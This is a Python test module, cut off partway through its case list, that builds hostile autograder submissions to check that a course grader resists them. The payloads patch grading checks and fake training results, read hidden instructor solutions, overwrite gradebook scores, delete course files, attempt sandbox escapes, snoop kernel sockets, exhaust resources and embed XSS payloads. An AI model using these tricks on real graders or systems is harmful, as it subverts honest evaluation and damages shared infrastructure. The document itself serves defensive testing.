"""The adversarial corpus: submissions built from the real release notebooks, each with
the grade it deserves written beside it.

Every case starts from a submission in ``mission_support`` ("blank", "partial": right
answers for the cheap tasks and no training, or the seed's model) and changes one thing
the way a careless or a scheming student would. ``expected`` is the automatic score the
CSV must show (``None``: no row, the folder is not a mission); ``log`` is a piece of the
one line the grading log must print about it. Partial bases keep the corpus quick: no
case trains a network, so grading it costs seconds, except the limits it tests.

``write_corpus(folder)`` writes every case as ``<student>/<mission>/...``; the student id
is the case name unless ``student`` gives the (hostile) folder name. ``feedback_excludes``
lists text that must not appear in the case's feedback HTML.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from mission_support import PARTIAL, SOURCE, cell_by_id, nbmeta, submission

M1, M2, M3, M4, M5 = (
    "mission1_base_model",
    "mission2_early_stopping",
    "mission3_dropout",
    "mission4_callback_99",
    "mission5_backprop_numpy",
)
CELL_TIMEOUT_S = 45  # the corpus run's per-cell limit (the course default is 600 s)
WALL_CLOCK_S = 120  # the corpus run's per-submission limit (the course default is 900 s)


@dataclass
class Case:
    name: str  # also the student id
    mission: str
    what: str  # one line: what the submission does
    build: Callable[[Path], None]  # writes the submission folder's files
    expected: float | None  # deserved automatic score; None: not graded at all
    log: str | None = None  # expected in the log line ("FAILED <name>/...: <log>")
    student: str | None = None  # the folder name (student id) when it is not ``name``
    feedback_excludes: tuple[str, ...] = ()  # must not appear in the feedback HTML

    @property
    def student_id(self) -> str:
        return self.student if self.student is not None else self.name


def _write(nb, folder: Path, name: str | None = None) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, folder / (name or f"{nb.metadata.get('_mission')}.ipynb"))


def _nb(mission: str, kind: str):
    nb = submission(mission, kind)
    nb.metadata["_mission"] = mission
    return nb


def _append_to(nb, cell_id: str, code: str):
    cell = cell_by_id(nb, cell_id)
    cell.source = cell.source + "\n\n" + code.strip() + "\n"
    return nb


def _prepend_to(nb, cell_id: str, code: str):
    cell = cell_by_id(nb, cell_id)
    cell.source = code.strip() + "\n\n" + cell.source
    return nb


def _simple(mission: str, kind: str, change=None, name: str | None = None):
    """A builder: the base submission, ``change(nb)`` applied, saved under ``name``."""

    def build(folder: Path) -> None:
        nb = _nb(mission, kind)
        if change:
            nb = change(nb) or nb
        nb.metadata.pop("_mission", None)
        _write(nb, folder, name or f"{mission}.ipynb")

    return build


# --------------------------------------------------------------------------- test cells
def _tests_to_pass(nb):
    for cell in nb.cells:
        if nbmeta(cell).get("grade") and not nbmeta(cell).get("solution"):
            cell.source = "pass"


def _delete_test(nb):
    nb.cells = [c for c in nb.cells if c.id != "test_structure"]


def _change_metadata(nb):
    meta = nbmeta(cell_by_id(nb, "test_compile"))
    meta["points"] = 50
    structure = cell_by_id(nb, "test_structure")
    nbmeta(structure)["grade_id"] = "my_structure_test"
    nbmeta(structure)["points"] = 100


def _reorder(nb):
    i, j = (
        next(k for k, c in enumerate(nb.cells) if c.id == cid)
        for cid in ("test_structure", "test_compile")
    )
    nb.cells[i], nb.cells[j] = nb.cells[j], nb.cells[i]
    md = [k for k, c in enumerate(nb.cells) if c.cell_type == "markdown"]
    nb.cells[md[-1]], nb.cells[md[-2]] = nb.cells[md[-2]], nb.cells[md[-1]]


def _duplicate_graded_cell(nb):
    k = next(k for k, c in enumerate(nb.cells) if c.id == "build_base_model")
    copy = nbformat.from_dict(json.loads(json.dumps(nb.cells[k])))
    copy.id = "build-copy"
    nb.cells.insert(k + 1, copy)


# --------------------------------------------------------------------------- patching
PATCHES = """
import builtins

import numpy.testing
from helpers import grading


class _FakeHistory:
    epoch = list(range(10))
    history = {"accuracy": [0.99] * 10, "val_accuracy": [0.99] * 10,
               "loss": [0.01] * 10, "val_loss": [0.01] * 10}


keras.Model.evaluate = lambda self, *a, **k: [0.0, 1.0]
numpy.testing.assert_allclose = lambda *a, **k: None
builtins.print = lambda *a, **k: None
grading.test_accuracy = lambda *a, **k: 1.0
grading.assert_accuracy_at_least = lambda *a, **k: None
grading.assert_history = lambda *a, **k: None
grading.assert_not_tampered = lambda *a, **k: None


def train_base_model(model, x_train, y_train, x_val, y_val, epochs=10):
    return _FakeHistory()
"""


# --------------------------------------------------------------------------- limits
LOOP = "def train_base_model(*args, **kwargs):\n    while True:\n        pass\n"
SLEEP = "import time\n\ntime.sleep(3600)  # far past the cell timeout\n"
# Every test cell that builds the model now waits out its cell limit: together they run
# past the per-submission wall clock.
SLOW_BUILDER = (
    "import time\n\n_build = build_base_model\n\n\ndef build_base_model():\n"
    "    time.sleep(3600)\n    return _build()\n"
)
STUBBORN = """
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)  # ignore the grader's interrupt
while True:
    pass
"""
KERNEL_DIES = "import os\n\nos._exit(1)\n"
SYS_EXIT = "import sys\n\nsys.exit()\n"
# At most 12 GiB, so that even an unlimited grader on this 23 GiB machine survives; the
# sandbox's 8 GiB address-space limit stops it much earlier with MemoryError.
MEMORY = """
import numpy as np

hoard = []
for _ in range(12):
    hoard.append(np.ones(2**27))  # 1 GiB each, touched
"""
PRINTS_20MB = """
for i in range(200_000):
    print(f"{i:08d} " + "x" * 91)  # 100 bytes a line, 20 MB in all
"""

# --------------------------------------------------------------------------- sandbox
PROBE = """
import json
import os
from pathlib import Path

import helpers

course = Path.cwd().parents[2]  # <course>/autograder/autograded/<student>/<mission>
repo = Path(helpers.__file__).resolve().parents[1]
site_packages = Path(keras.__file__).parents[1]

targets = {
    "source_notebooks": course.parent / "source_notebooks",
    "repo_source_notebooks": repo / "source_notebooks",
    "gradebook": course / "gradebook.db",
    "submitted": course / "submitted",
    "repo_git": repo / ".git",
    "repo_tests": repo / "tests",
}
seen = {name: path.exists() for name, path in targets.items()}
writable = {}
for name, path in {"helpers_grading": Path(helpers.__file__).parent / "grading.py",
                   "nbgrader": site_packages / "nbgrader" / "__init__.py",
                   "data": repo / "data" / "probe.txt"}.items():
    try:
        with open(path, "a"):
            pass
        writable[name] = True
    except OSError:
        writable[name] = False
print("SANDBOX-PROBE " + json.dumps({"exists": seen, "writable": writable}))
"""
READ_HIDDEN = """
import json
from pathlib import Path

import helpers

# read the instructor's notebook and run its answer: full marks if it can be read
candidates = [Path.cwd().parents[3] / "source_notebooks",
              Path(helpers.__file__).resolve().parents[1] / "source_notebooks"]
for folder in candidates:
    nb = json.loads((folder / "mission1_base_model" / "mission1_base_model.ipynb").read_text())
    for cell in nb["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "build_base_model":
            get_ipython().run_cell("".join(cell["source"]))
"""
WRITE_GRADEBOOK = """
import sqlite3
from pathlib import Path

# a manual score overrides the automatic one: give every cell of every student 100
db = Path.cwd().parents[2] / "gradebook.db"
con = sqlite3.connect(f"file:{db}?mode=rw", uri=True)
con.execute("UPDATE grade SET manual_score = 100")
con.commit()
"""
PATCH_INSTALLED = """
from pathlib import Path

import helpers

fake = "def assert_not_tampered():\\n    pass\\n"
nbgrader_dir = Path(keras.__file__).parents[1] / "nbgrader"  # site-packages/nbgrader
for path in (Path(helpers.__file__).parent / "grading.py",
             nbgrader_dir / "preprocessors" / "saveautogrades.py"):
    path.write_text(fake)
"""
DELETE_FILES = """
import shutil
from pathlib import Path

import helpers
from helpers import datasets

repo = Path(helpers.__file__).resolve().parents[1]
for victim in (datasets.data_dir(), repo / "release"):
    try:
        shutil.rmtree(victim)
    except OSError as exc:
        print("could not delete", victim, type(exc).__name__)
for nb in (repo / "release").glob("*/*.ipynb"):
    try:
        nb.write_text("{}")
    except OSError as exc:
        print("could not overwrite", nb.name, type(exc).__name__)
"""

# --------------------------------------------------------------------------- root, network, disk
# Each prints one "<NAME>-PROBE {json}" line that tests/test_adversarial.py reads back from
# the autograded notebook. None destroys anything even where it succeeds (a grader without
# the fixes): what it proves it can write, it removes again.
STATUS_PROBE = """
import json
import subprocess

status = dict(line.split(":\\t", 1) for line in
              open("/proc/self/status").read().splitlines() if ":\\t" in line)
# a nested user namespace would give the kernel its capabilities back
nested = subprocess.run(["unshare", "--user", "--map-root-user", "true"],
                        capture_output=True).returncode == 0
print("STATUS-PROBE " + json.dumps({
    "uid": status["Uid"].split()[0], "cap_eff": status["CapEff"].strip(),
    "cap_bnd": status["CapBnd"].strip(), "no_new_privs": status["NoNewPrivs"].strip(),
    "nested_userns": nested}))
"""
REMOUNT = """
import json
import subprocess
from pathlib import Path

import helpers

# As root with CAP_SYS_ADMIN a kernel remounts the read-only binds writable and patches
# the grader; here it only proves it could, with a file it removes again.
found = {}
for name, folder in {"helpers": Path(helpers.__file__).parent,
                     "nbgrader": Path(keras.__file__).parents[1] / "nbgrader",
                     "usr": Path("/usr/lib")}.items():
    remount = subprocess.run(["mount", "-o", "remount,bind,rw", str(folder)],
                             capture_output=True)
    marker = folder / "ESCAPED-remounts-read-only-code"
    try:
        marker.write_text("x")
        marker.unlink()
        wrote = True
    except OSError:
        wrote = False
    found[name] = {"remounted": remount.returncode == 0, "wrote": wrote}
print("REMOUNT-PROBE " + json.dumps(found))
"""
# What the network probes share: the TCP sockets listening where the kernel can see them,
# which of them are its own (ipykernel keeps one for its output pipe), its interfaces.
LISTENING = """
import json
import os
import socket


def listening(table):
    try:
        rows = [r.split() for r in open(table).read().splitlines()[1:]]
    except OSError:
        return {}
    return {int(r[1].rsplit(":", 1)[1], 16): r[9] for r in rows if r[3] == "0A"}


own_sockets = set()
for fd in os.listdir("/proc/self/fd"):
    try:
        own_sockets.add(os.readlink(f"/proc/self/fd/{fd}"))
    except OSError:
        pass
table = {**listening("/proc/net/tcp"), **listening("/proc/net/tcp6")}
ports = sorted(table)
own = sorted(p for p, inode in table.items() if f"socket:[{inode}]" in own_sockets)
foreign = sorted(set(ports) - set(own))
interfaces = [r.split(":")[0].strip() for r in open("/proc/net/dev").read().splitlines()[2:]]
"""
LOOPBACK = (
    LISTENING
    + """
reached = []
for port in foreign:
    with socket.socket() as sock:
        sock.settimeout(1)
        if sock.connect_ex(("127.0.0.1", port)) == 0:
            reached.append(port)
print("LOOPBACK-PROBE " + json.dumps({"interfaces": interfaces, "foreign": foreign,
                                      "reached": reached}))
"""
)
# Subscribes to every listening port, its own kernel's too (a stand-in for the kernel
# graded beside it: an IOPub stream carries every output and the code of every cell,
# hidden tests included), and prints while it listens.
IOPUB_SNOOP = (
    LISTENING
    + """
import time

import zmq

subscribers = []
for port in ports:
    sub = zmq.Context.instance().socket(zmq.SUB)
    sub.setsockopt(zmq.SUBSCRIBE, b"")
    sub.connect(f"tcp://127.0.0.1:{port}")
    subscribers.append(sub)
messages = 0
for i in range(40):
    print(f"listening {i}", flush=True)
    time.sleep(0.25)
    for sub in subscribers:
        while sub.poll(0):
            sub.recv_multipart()
            messages += 1
print("IOPUB-PROBE " + json.dumps({"ports": len(ports), "messages": messages}))
"""
)
# Holds every ephemeral port on 127.0.0.1 for 20 s (two processes: one may open at most
# 20,000 files): on a shared loopback no other kernel could start meanwhile.
PORT_HOG = (
    LISTENING
    + """
import time

low, high = map(int, open("/proc/sys/net/ipv4/ip_local_port_range").read().split())
middle = (low + high) // 2
child = os.fork()
held, taken = [], []
for port in range(middle, high + 1) if child == 0 else range(low, middle):
    try:
        sock = socket.socket()
        sock.bind(("127.0.0.1", port))
        sock.listen()
        held.append(sock)
    except OSError:
        sock.close()
        taken.append(port)
time.sleep(20)
if child == 0:
    os._exit(0)
os.waitpid(child, 0)
print("PORT-HOG-PROBE " + json.dumps({"held": len(held), "taken_by_others":
                                      sorted(set(taken) - set(own))}))
"""
)
# 3 x 400 MiB next to the notebook: without a budget they stay in autograded/ and are
# copied into feedback/.
FILL_WORKDIR = """
chunk = bytes(2**20)
for i in range(3):
    with open(f"junk{i}.bin", "wb") as fh:
        for _ in range(400):
            fh.write(chunk)
"""
# Many files, each far below any per-file limit, in /tmp, /dev/shm and the sandbox's root.
FILL_SCRATCH = """
import json

chunk = bytes(2**20)
written = {}
for name, folder, files in (("tmp", "/tmp", 48), ("shm", "/dev/shm", 8), ("root", "", 1)):
    written[name] = 0
    try:
        for i in range(files):
            with open(f"{folder}/junk{i}.bin", "wb") as fh:
                for _ in range(32):
                    fh.write(chunk)
                    written[name] += 1
    except OSError as exc:
        print(name, exc)
print("DISK-PROBE " + json.dumps(written))
"""

FAKE_HELPERS = {
    "helpers/__init__.py": "def check_environment():\n    pass\n\n\ndef seed_everything(s):\n"
    "    pass\n",
    "helpers/grading.py": "def __getattr__(name):\n    return lambda *a, **k: None\n",
}


def _extra_files(folder: Path) -> None:
    _simple(M1, "blank")(folder)
    for rel, text in FAKE_HELPERS.items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_text(text)
    (folder / "notes.txt").write_text("my notes\n")


def _text(text: str, name: str):
    def build(folder: Path) -> None:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)

    return build


def _old_nbformat(folder: Path) -> None:
    nb = submission(M1, "partial")
    folder.mkdir(parents=True, exist_ok=True)
    v3 = nbformat.convert(nb, 3)
    (folder / f"{M1}.ipynb").write_text(nbformat.writes(v3, version=3))


def _two_notebooks(folder: Path) -> None:
    _simple(M2, "partial", name="draft.ipynb")(folder)
    _simple(M2, "partial", name="final.ipynb")(folder)


P1, P2, P4 = (PARTIAL[m][1] for m in (M1, M2, M4))

# --------------------------------------------------------------------------- IPython
# Answer cells that rewire how later cells run, while the saved notebook stays intact.
INPUT_TRANSFORMER = """
def _skip_tests(lines):
    # every later cell that mentions the grading helpers runs nothing
    return ["pass\\n"] if any("grading" in line for line in lines) else lines


get_ipython().input_transformers_cleanup.append(_skip_tests)
"""
# The same through an AST transformer, reached without any name the answer scan knows:
# only the kernel guard can notice it.
HIDDEN_AST_TRANSFORMER = """
import ast

from traitlets.config import Application

_shell = Application.instance().shell


class _Emptier:
    def visit(self, tree):
        if "grading" in ast.dump(tree):
            tree.body = [ast.Pass()]
        return tree


getattr(_shell, "ast_" + "transformers").append(_Emptier())
"""

# --------------------------------------------------------------------------- grading's state
# A training function that trains nothing, and the grading checks it would fail replaced.
_FAKE_TRAINING = """
import contextlib
import types


class _FakeHistory:
    epoch = list(range(10))
    history = {"accuracy": [0.99] * 10, "val_accuracy": [0.99] * 10,
               "loss": [0.01] * 10, "val_loss": [0.01] * 10}
    params = {"steps": 391}


_records = []


@contextlib.contextmanager
def _record():
    _records.clear()
    yield _records


def train_base_model(model, x_train, y_train, x_val, y_val, epochs=10):
    _records.append(types.SimpleNamespace(model=model, train_rows=50_000, batch_size=128))
    return _FakeHistory()


def _nothing(*args, **kwargs):
    return None
"""
GRADING_ALIAS = (
    _FAKE_TRAINING
    + """
import helpers.grading as g

g.assert_not_tampered = _nothing
g.assert_history = _nothing
g.assert_accuracy_at_least = _nothing
g.test_accuracy = lambda *args, **kwargs: 1.0
g.record_fits = _record
"""
)
# The module reached through a name no scan can follow; only the kernel guard notices.
GRADING_HIDDEN_ALIAS = (
    _FAKE_TRAINING
    + """
g = [m for m in (grading,)][0]
g.assert_not_tampered = _nothing
g.assert_history = _nothing
g.assert_accuracy_at_least = _nothing
g.test_accuracy = lambda *args, **kwargs: 1.0
g.record_fits = _record
"""
)
# `grading` itself rebound to an impostor that passes everything: no attribute changes.
GRADING_REBOUND = (
    _FAKE_TRAINING
    + """
_real = grading


class _Impostor:
    test_accuracy = staticmethod(lambda *args, **kwargs: 1.0)
    record_fits = staticmethod(_record)

    def __getattr__(self, name):
        if name.startswith("assert_"):
            return _nothing
        return getattr(_real, name)


grading = _Impostor()
"""
)

# --------------------------------------------------------------------------- stdout
# The hidden tests printed into the student's own feedback.
HOOK_PRINTS_TESTS = """
def _show(info):
    print(info.raw_cell)


get_ipython().events.register("pre_run_cell", _show)
"""
# An answer cell that runs after two tests prints IPython's input history, reached
# through a name the answer scan does not know.
HISTORY_PRINTS_TESTS = """
import __main__

print(__main__.In)
"""

# --------------------------------------------------------------------------- script
SCRIPT_OUTPUT = """
from IPython.display import HTML, Markdown, display

display(HTML('<b>hi</b><script>alert("xss-html")</script><img src=x onerror="alert(1)">'))
display(Markdown("[click me](javascript:alert('xss-markdown'))"))
"""
SCRIPT_MARKDOWN = (
    '<script>alert("xss-cell")</script>\n\n<a href="javascript:alert(2)">a link</a> '
    "[another](javascript:alert(3)) <svg onload=alert(4)></svg> "
    "<img src=x onerror=alert(5)>\n"
)
# What would run in a browser (the attack's text may remain, as inert text).
SCRIPT_STRINGS = (
    "<script>alert",
    "onerror=",
    "onload=",
    'href="javascript:',
    'src="javascript:',
    "<svg",
)


def _add_markdown(text: str):
    def change(nb):
        k = next(k for k, c in enumerate(nb.cells) if c.id == "build_base_model")
        nb.cells.insert(k, nbformat.v4.new_markdown_cell(text))

    return change


# --------------------------------------------------------------------------- links
SOURCE_M1 = SOURCE / M1 / f"{M1}.ipynb"


def _symlink_to_source(folder: Path) -> None:
    folder.mkdir(parents=True)
    (folder / f"{M1}.ipynb").symlink_to(SOURCE_M1)


def _hardlink_to_source(folder: Path) -> None:
    """A hard link to a copy of the instructor notebook (a hard link cannot cross file
    systems; a copy next to the corpus can always be linked)."""
    folder.mkdir(parents=True)
    shared = folder.parents[1] / "_shared"
    shared.mkdir(exist_ok=True)
    copy = shared / "instructor-copy.ipynb"
    copy.write_bytes(SOURCE_M1.read_bytes())
    os.link(copy, folder / f"{M1}.ipynb")


def _linked_folder(folder: Path) -> None:
    """The mission folder is a link to another student's hand-in."""
    other = folder.parents[1] / "_shared" / "someone-else" / M1
    _simple(M1, "partial")(other)
    folder.parent.mkdir(parents=True, exist_ok=True)
    folder.symlink_to(other, target_is_directory=True)


# --------------------------------------------------------------------------- odd files
def _deeply_nested(folder: Path) -> None:
    folder.mkdir(parents=True)
    depth = 100_000
    (folder / f"{M2}.ipynb").write_text(
        '{"nbformat": 4, "nbformat_minor": 5, "metadata": {"x": '
        + "[" * depth
        + "]" * depth
        + '}, "cells": []}'
    )


def _metadata_of_wrong_type(nb):
    nbmeta(cell_by_id(nb, "test_compile"))["grade_id"] = ["test_compile"]  # unhashable
    cell_by_id(nb, "test_structure").metadata["nbgrader"] = "locked"  # not a dict


# --------------------------------------------------------------------------- student ids
# (a folder name holds no "/"; no spaces, so that the log's escaped form is one word)
# --------------------------------------------------------------------------- NumPy (mission 5)
# Gradients by finite differences inside the answer: right values, no backpropagation. The
# affine test times the backward pass against the forward one and fails it (3 points).
M5_NUMERIC_BACKWARD = """
from helpers.gradcheck import numerical_gradient_array


def affine_forward(x, w, b):
    return x @ w + b, (x, w, b)


def affine_backward(dout, cache):
    x, w, b = cache
    dx = numerical_gradient_array(lambda z: z @ w + b, x.copy(), dout)
    dw = numerical_gradient_array(lambda z: x @ z + b, w.copy(), dout)
    db = numerical_gradient_array(lambda z: x @ w + z, b.copy(), dout)
    return dx, dw, db
"""
# An answer that makes every gradient check pass by replacing what it measures with.
M5_PATCHES_GRADCHECK = """
from helpers import gradcheck

gradcheck.norm_relative_error = lambda a, b: 0.0
gradcheck.numerical_gradient_array = lambda f, x, dout, h=1e-5: 0 * x
np.allclose = lambda *args, **kwargs: True
"""
# The same through a name the scan cannot follow: the kernel guard puts them back.
M5_HIDDEN_PATCH = """
from helpers import backprop_diagnosis

_m = [m for m in (backprop_diagnosis,)][0]
_m.assert_affine_layer = lambda *args, **kwargs: None
_m.relative_error = lambda a, b: 0.0
"""
# The instructor's answers, read from the source notebook and run with exec().
M5_RUNS_SOLUTION = """
import json
from pathlib import Path

import helpers

repo = Path(helpers.__file__).resolve().parents[1]
path = repo / "source_notebooks" / "mission5_backprop_numpy" / "mission5_backprop_numpy.ipynb"
for cell in json.loads(path.read_text())["cells"]:
    if cell["metadata"].get("nbgrader", {}).get("solution"):
        exec("".join(cell["source"]))
"""
# The solution imported as a module (a copy saved next to the notebook would be one way).
M5_IMPORTS_SOLUTION = """
import importlib

solution = importlib.import_module("source_notebooks.mission5_backprop_numpy")
affine_forward, affine_backward = solution.affine_forward, solution.affine_backward
"""
# Training that trains nothing: random parameters, and a loss history that looks right.
M5_FAKE_TRAINING = """
def train_two_layer_net(x_train, labels_train, hidden_units=100, num_epochs=4, batch_size=100,
                        lr=0.05, momentum=0.9, p_drop=0.2, seed=42):
    rng = np.random.default_rng(seed)
    params = {"W1": rng.standard_normal((784, hidden_units)).astype(np.float32) * 0.01,
              "b1": np.zeros(hidden_units, np.float32),
              "W2": rng.standard_normal((hidden_units, 10)).astype(np.float32) * 0.01,
              "b2": np.zeros(10, np.float32)}
    print("test accuracy: 0.9900")
    return params, [0.4, 0.2, 0.15, 0.12]
"""
# The kernel's process-level stdout and stderr (ipykernel keeps a copy of each before it
# captures them): were they the grading job's output file, that file lies on the grader's
# disk, outside the disk budget, and the grader reads it back whole. Lists every open file
# it may write outside the sandbox's own file systems, then writes 64 MiB to those copies.
M5_WRITES_PAST_BUDGET = """
import fcntl
import json
import os
import stat
import sys

own = {os.stat(p).st_dev for p in ("/tmp", ".", "/dev/shm")}
outside = []
for name in os.listdir("/proc/self/fd"):
    try:
        st = os.fstat(int(name))
        mode = fcntl.fcntl(int(name), fcntl.F_GETFL) & os.O_ACCMODE
    except OSError:
        continue
    if stat.S_ISREG(st.st_mode) and mode != os.O_RDONLY and st.st_dev not in own:
        outside.append(os.readlink(f"/proc/self/fd/{name}"))
chunk = bytes(2**20)
for stream in (sys.stdout, sys.stderr):
    fd = getattr(stream, "_original_stdstream_copy", None)
    for _ in range(32 if fd is not None else 0):
        os.write(fd, chunk)
print("STDIO-PROBE " + json.dumps({"outside": outside}))
"""
# An output rewritten in place by update_display_data, which never passed the per-cell cap.
M5_DISPLAY_UPDATE = """
from IPython.display import display

_handle = display({"text/plain": "small"}, raw=True, display_id="grows")
_handle.update({"text/plain": "x" * (40 * 2**20)}, raw=True)
"""
# Each cell just under the per-cell cap: 5000 of them (intake's limit) would be 10 GB in the
# grading job's memory and on the grader's disk (autograded/ and feedback/).
M5_BIG_CELL = (
    'from IPython.display import display\n\ndisplay({"text/plain": "x" * (2**21 - 2000)}, raw=True)'
)


def _many_big_cells(nb, count: int = 12):
    k = next(k for k, c in enumerate(nb.cells) if c.id == "affine_layer")
    for _ in range(count):
        nb.cells.insert(k + 1, nbformat.v4.new_code_cell(M5_BIG_CELL))


P5 = PARTIAL[M5][1]

FORGED_ROW = f"forger\n{M1},,,victim,,,,10.0,0.0,10.0,10.0\ngraded_victim:10"

CASES = [
    # ---- test cells and their metadata
    Case(
        "tests-edited-to-pass",
        M1,
        "every test cell of a blank notebook replaced by `pass`",
        _simple(M1, "blank", _tests_to_pass),
        0,
    ),
    Case(
        "test-deleted",
        M1,
        "the structure test cell deleted (nbgrader puts it back)",
        _simple(M1, "partial", _delete_test),
        P1,
    ),
    Case(
        "metadata-changed",
        M1,
        "a test's grade id renamed and points raised to 100 and 50",
        _simple(M1, "partial", _change_metadata),
        P1,
    ),
    Case(
        "cells-reordered",
        M1,
        "two test cells and two text cells swapped",
        _simple(M1, "partial", _reorder),
        P1,
    ),
    Case(
        "graded-cell-copied",
        M1,
        "the answer cell duplicated, grade id and all",
        _simple(M1, "partial", _duplicate_graded_cell),
        P1,
    ),
    # ---- answers that patch what the tests use
    Case(
        "patches-tests",
        M1,
        "replaces keras.Model.evaluate, numpy.testing, print and the "
        "grading helpers, returns a fake History",
        _simple(M1, "partial", lambda nb: _append_to(nb, "train_base_model", PATCHES)),
        0,
        log="FLAGGED patches-tests/mission1_base_model",
    ),
    # ---- limits
    Case(
        "infinite-loop",
        M1,
        "the training function never returns (cell timeout, graded on)",
        _simple(M1, "partial", lambda nb: _append_to(nb, "train_base_model", LOOP)),
        P1,
    ),
    Case(
        "sleeps",
        M2,
        "sleeps an hour in an answer cell (cell timeout, graded on)",
        _simple(M2, "partial", lambda nb: _prepend_to(nb, "train_with_early_stopping", SLEEP)),
        P2,
    ),
    Case(
        "ignores-interrupt",
        M4,
        "ignores SIGINT and loops past the cell limit",
        _simple(M4, "partial", lambda nb: _prepend_to(nb, "train_mnist", STUBBORN)),
        0,
        log="did not stop when interrupted",
    ),
    Case(
        "slow-everywhere",
        M1,
        "the builder sleeps: every test cell times out, together past "
        "the per-submission wall clock",
        _simple(M1, "partial", lambda nb: _append_to(nb, "build_base_model", SLOW_BUILDER)),
        0,
        log=f"autograde timed out after {WALL_CLOCK_S} s",
    ),
    Case(
        "kernel-dies",
        M3,
        "calls os._exit(1) in an answer cell",
        _simple(M3, "blank", lambda nb: _prepend_to(nb, "build_dropout_model", KERNEL_DIES)),
        0,
        log="the kernel died",
    ),
    Case(
        "sys-exit",
        M4,
        "calls sys.exit() in an answer cell (the kernel survives)",
        _simple(M4, "partial", lambda nb: _prepend_to(nb, "train_mnist", SYS_EXIT)),
        P4,
    ),
    Case(
        "memory-hog",
        M2,
        "allocates up to 12 GiB (stopped at the sandbox's 8 GiB)",
        _simple(M2, "partial", lambda nb: _prepend_to(nb, "train_with_early_stopping", MEMORY)),
        P2,
    ),
    Case(
        "prints-20mb",
        M1,
        "prints 20 MB (cut at 2 MB while the cell runs)",
        _simple(M1, "partial", lambda nb: _append_to(nb, "train_base_model", PRINTS_20MB)),
        P1,
    ),
    # ---- files
    Case(
        "invalid-json",
        M2,
        "a truncated notebook file",
        _text('{"cells": [', f"{M2}.ipynb"),
        0,
        log="is not valid JSON",
    ),
    Case("old-nbformat", M1, "saved as nbformat 3", _old_nbformat, P1),
    Case("empty-file", M4, "an empty file", _text("", f"{M4}.ipynb"), 0, log="is an empty file"),
    Case(
        "wrong-file-name",
        M1,
        "the only notebook is called 'Copy of mission 1.ipynb'",
        _simple(M1, "partial", name="Copy of mission 1.ipynb"),
        P1,
    ),
    Case(
        "two-notebooks",
        M2,
        "two notebooks, neither with the mission's name",
        _two_notebooks,
        0,
        log="cannot tell which one to grade",
    ),
    Case(
        "extra-files",
        M1,
        "a blank notebook plus a fake helpers/ package that passes everything, and notes.txt",
        _extra_files,
        0,
    ),
    Case(
        "unknown-mission",
        "mission9_bonus",
        "a folder for a mission the course does not have",
        _text("{}", "mission9_bonus.ipynb"),
        None,
        log="not a mission of this course",
    ),
    # ---- the course's files and the sandbox
    Case(
        "deletes-course-files",
        M1,
        "tries to delete the data sets and release/ and to overwrite the release notebooks",
        _simple(M1, "partial", lambda nb: _append_to(nb, "train_base_model", DELETE_FILES)),
        P1,
    ),
    Case(
        "reads-hidden-tests",
        M1,
        "reads the instructor notebook and runs its answer "
        "(the sandbox hides it; running code through get_ipython() is flagged)",
        _simple(M1, "blank", lambda nb: _append_to(nb, "build_base_model", READ_HIDDEN)),
        0,
        log="uses get_ipython",
    ),
    Case(
        "writes-gradebook",
        M1,
        "sets every manual score in the gradebook to 100",
        _simple(M1, "partial", lambda nb: _append_to(nb, "train_base_model", WRITE_GRADEBOOK)),
        P1,
    ),
    Case(
        "patches-installed-code",
        M1,
        "rewrites helpers/grading.py and nbgrader's saveautogrades.py",
        _simple(M1, "partial", lambda nb: _append_to(nb, "train_base_model", PATCH_INSTALLED)),
        P1,
    ),
    Case(
        "sandbox-probe",
        M1,
        "records which secrets it can see and what it can write",
        _simple(M1, "partial", lambda nb: _append_to(nb, "train_base_model", PROBE)),
        P1,
    ),
    # ---- IPython's own machinery (issue 17, class 2)
    Case(
        "ipython-input-transformer",
        M1,
        "a blank answer registers an input transformer that turns every test cell into `pass`",
        _simple(M1, "blank", lambda nb: _append_to(nb, "build_base_model", INPUT_TRANSFORMER)),
        0,
        log="FLAGGED ipython-input-transformer/mission1_base_model",
    ),
    Case(
        "ipython-hidden-ast-transformer",
        M1,
        "the same with an AST transformer reached "
        "through names the answer scan does not know (only the kernel guard sees it)",
        _simple(M1, "blank", lambda nb: _append_to(nb, "build_base_model", HIDDEN_AST_TRANSFORMER)),
        0,
        log="AST transformers",
    ),
    # ---- the checker's own state (class 3)
    Case(
        "grading-alias-patch",
        M1,
        "a partial answer fakes training and replaces the "
        "grading checks through `import helpers.grading as g`",
        _simple(M1, "partial", lambda nb: _append_to(nb, "train_base_model", GRADING_ALIAS)),
        0,
        log="replaces g.assert_not_tampered",
    ),
    Case(
        "grading-hidden-alias",
        M1,
        "the same through an alias no scan follows",
        _simple(M1, "partial", lambda nb: _append_to(nb, "train_base_model", GRADING_HIDDEN_ALIAS)),
        0,
        log="helpers.grading.assert_not_tampered",
    ),
    Case(
        "grading-rebound",
        M1,
        "`grading` rebound to an impostor whose checks all pass",
        _simple(M1, "partial", lambda nb: _append_to(nb, "train_base_model", GRADING_REBOUND)),
        0,
        log="the name `grading` that the tests use was rebound",
    ),
    # ---- hidden tests through stdout (class 7)
    Case(
        "hook-prints-tests",
        M1,
        "a pre_run_cell hook prints every cell's source",
        _simple(M1, "blank", lambda nb: _append_to(nb, "build_base_model", HOOK_PRINTS_TESTS)),
        0,
        log="FLAGGED hook-prints-tests/mission1_base_model",
    ),
    Case(
        "history-prints-tests",
        M1,
        "an answer cell after two tests prints IPython's input history (`__main__.In`)",
        _simple(M1, "blank", lambda nb: _append_to(nb, "train_base_model", HISTORY_PRINTS_TESTS)),
        0,
    ),
    # ---- script in the feedback (class 9)
    Case(
        "script-in-outputs",
        M1,
        "displays HTML with <script> and onerror=, and Markdown with a javascript: link",
        _simple(M1, "partial", lambda nb: _append_to(nb, "train_base_model", SCRIPT_OUTPUT)),
        P1,
        feedback_excludes=SCRIPT_STRINGS,
    ),
    Case(
        "script-in-markdown",
        M1,
        "a Markdown cell with <script>, javascript: links and on*= attributes",
        _simple(M1, "partial", _add_markdown(SCRIPT_MARKDOWN)),
        P1,
        feedback_excludes=SCRIPT_STRINGS,
    ),
    # ---- links (class 4)
    Case(
        "symlink-to-source",
        M1,
        "the notebook is a symbolic link to the instructor's source notebook",
